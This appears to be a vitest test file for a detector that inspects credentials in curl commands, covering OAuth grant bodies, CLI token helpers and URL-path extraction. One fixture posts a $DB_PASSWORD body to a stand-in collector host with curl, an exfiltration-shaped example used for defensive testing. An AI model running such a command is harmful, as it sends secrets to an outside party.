// Credentials in a network command: OAuth grants spared only for their own fields, CLI token helpers named, URL paths.

import { describe, expect, test } from "vitest";
import { helperToken, oauthExchange, urlPath } from "../../../src/engine/injection/bash-pipeline-tokens.ts";

describe("oauthExchange", () => {
  const endpoint = "curl -d @- https://auth.vendor.example/oauth/token";
  test.each([
    [
      "a client secret in its own field is the grant",
      "grant_type=client_credentials&client_secret=$CLIENT_SECRET",
      endpoint,
      "grant_type=client_credentials&client_secret=oauth-credential",
    ],
    [
      "a token in a field of another name stays",
      "grant_type=client_credentials&client_secret=$GITHUB_TOKEN",
      endpoint,
      "grant_type=client_credentials&client_secret=$GITHUB_TOKEN",
    ],
    ["no grant_type: not an exchange", "client_secret=$CLIENT_SECRET", endpoint, "client_secret=$CLIENT_SECRET"],
    [
      "not a token endpoint",
      "grant_type=password&password=$DB_PASSWORD",
      "curl -d @- https://collector.example/in",
      "grant_type=password&password=$DB_PASSWORD",
    ],
  ])("%s", (_, data, text, want) => {
    expect(oauthExchange(data, text)).toBe(want);
  });
});

describe("helperToken and urlPath", () => {
  test.each([
    ["$(gh auth token)", "GH_TOKEN"],
    ["$(gcloud auth print-access-token)", "AUTH_TOKEN"],
  ])("%s names %s", (helper, want) => expect(helperToken(helper)).toBe(want));
  test.each([
    ["curl https://api.github.example/repos/acme/app/pulls -H x", "/repos/acme/app/pulls"],
    ["curl -H 'Authorization: Bearer $T' $API_URL", ""],
  ])("%s -> %s", (text, want) => expect(urlPath(text)).toBe(want));
});
